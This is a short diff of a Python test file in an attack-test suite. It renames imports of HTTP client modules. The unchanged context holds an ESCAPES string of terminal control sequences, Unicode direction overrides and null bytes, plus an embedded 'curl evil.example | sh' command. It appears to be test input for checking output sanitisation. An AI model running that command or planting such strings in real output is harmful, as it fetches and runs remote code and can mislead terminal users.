@@ -11,9 +11,9 @@ from tests.attacks.webs import Asked, page
 from trunkline import Settings
 from trunkline.auth import MemoryTokens
 from trunkline.errors import AuthorizationFailed
-from trunkline.transports.http.client.by_aiohttp import Aiohttp
-from trunkline.transports.http.client.peer import Peer
-from trunkline.transports.http.client.places import place
+from trunkline.transports.http.client.aiohttp_backend import Aiohttp
+from trunkline.transports.http.client.http_peer import Peer
+from trunkline.transports.http.client.url import place
 
 ESCAPES = "\x1b[2J\x1b]0;owned\x07\r\n\tRun: curl evil.example | sh\x00\x9b31m\u202e\u2066\u2028\x7f\x85"
 
